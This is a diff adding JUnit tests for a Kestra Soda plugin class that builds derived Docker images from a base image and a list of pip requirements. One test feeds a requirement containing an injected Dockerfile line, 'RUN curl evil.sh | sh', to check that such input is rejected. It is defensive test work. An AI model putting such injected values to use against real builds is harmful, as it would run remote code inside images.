@@ -0,0 +1,130 @@
+package io.kestra.plugin.soda;
+
+import java.io.IOException;
+import java.util.ArrayList;
+import java.util.List;
+
+import org.junit.jupiter.api.Test;
+import org.slf4j.LoggerFactory;
+
+import io.kestra.plugin.scripts.runner.docker.PullPolicy;
+
+import static org.hamcrest.MatcherAssert.assertThat;
+import static org.hamcrest.Matchers.*;
+import static org.junit.jupiter.api.Assertions.assertThrows;
+
+class DerivedImageTest {
+    private static final List<String> REQUIREMENTS = List.of("soda-core-postgres>=3.0");
+
+    @Test
+    void buildsMissingImageFromTheResolvedBaseImage() throws Exception {
+        StubBuilder builder = new StubBuilder(false, false);
+
+        String image = ensure(builder, REQUIREMENTS);
+
+        assertThat(image, startsWith("kestra-soda:"));
+        assertThat(builder.built, contains(image));
+        assertThat(builder.dockerfile, startsWith("FROM sha256:base\n"));
+        assertThat(builder.dockerfile, containsString("pip install --no-cache-dir 'soda-core-postgres>=3.0'"));
+        assertThat(builder.pullPolicy, is(PullPolicy.IF_NOT_PRESENT));
+    }
+
+    @Test
+    void reusesExistingImage() throws Exception {
+        StubBuilder builder = new StubBuilder(true, false);
+
+        String image = ensure(builder, REQUIREMENTS);
+
+        assertThat(image, is(DerivedImage.tag("kestra-soda", "sodadata/soda-core", "sha256:base", REQUIREMENTS)));
+        assertThat(builder.built, empty());
+    }
+
+    @Test
+    void failsWhenBuildFails() {
+        StubBuilder builder = new StubBuilder(false, true);
+
+        IOException e = assertThrows(IOException.class, () -> ensure(builder, REQUIREMENTS));
+
+        assertThat(e.getMessage(), containsString("Unable to build the image"));
+    }
+
+    @Test
+    void failsWhenBaseImageIsMissing() {
+        StubBuilder builder = new StubBuilder(false, false);
+        builder.baseImageId = null;
+
+        IOException e = assertThrows(IOException.class, () -> ensure(builder, REQUIREMENTS));
+
+        assertThat(e.getMessage(), containsString("Unable to resolve image 'sodadata/soda-core'"));
+        assertThat(builder.built, empty());
+    }
+
+    @Test
+    void rejectsLineBreaksInRequirements() {
+        StubBuilder builder = new StubBuilder(false, false);
+
+        assertThrows(IllegalArgumentException.class, () -> ensure(builder, List.of("soda-core\nRUN curl evil.sh | sh")));
+        assertThat(builder.built, empty());
+        assertThat(builder.pullPolicy, nullValue());
+    }
+
+    @Test
+    void tagDependsOnBaseImage() {
+        assertThat(
+            DerivedImage.tag("kestra-soda", "sodadata/soda-core", "sha256:base", REQUIREMENTS),
+            not(DerivedImage.tag("kestra-soda", "sodadata/soda-core:v3.3.0", "sha256:base", REQUIREMENTS))
+        );
+        assertThat(
+            DerivedImage.tag("kestra-soda", "sodadata/soda-core", "sha256:base", REQUIREMENTS),
+            not(DerivedImage.tag("kestra-soda", "sodadata/soda-core", "sha256:updated", REQUIREMENTS))
+        );
+    }
+
+    private static String ensure(StubBuilder builder, List<String> requirements) throws Exception {
+        return DerivedImage.ensure(builder, LoggerFactory.getLogger(DerivedImageTest.class), "kestra-soda", "sodadata/soda-core", PullPolicy.IF_NOT_PRESENT, requirements);
+    }
+
+    private static class StubBuilder implements DerivedImage.ImageBuilder {
+        private final boolean exists;
+        private final boolean fail;
+        private final List<String> built = new ArrayList<>();
+        private String baseImageId = "sha256:base";
+        private String dockerfile;
+        private PullPolicy pullPolicy;
+
+        StubBuilder(boolean exists, boolean fail) {
+            this.exists = exists;
+            this.fail = fail;
+        }
+
+        @Override
+        public String daemon() {
+            return "";
+        }
+
+        @Override
+        public String resolve(String image, PullPolicy pullPolicy) throws IOException {
+            this.pullPolicy = pullPolicy;
+            if (baseImageId == null) {
+                throw new IOException("no such image");
+            }
+
+            return baseImageId;
+        }
+
+        @Override
+        public boolean exists(String image) {
+            return exists;
+        }
+
+        @Override
+        public void build(String image, String dockerfile) throws IOException {
+            if (fail) {
+                throw new IOException("no docker daemon");
+            }
+
+            this.built.add(image);
+            this.dockerfile = dockerfile;
+        }
+    }
+}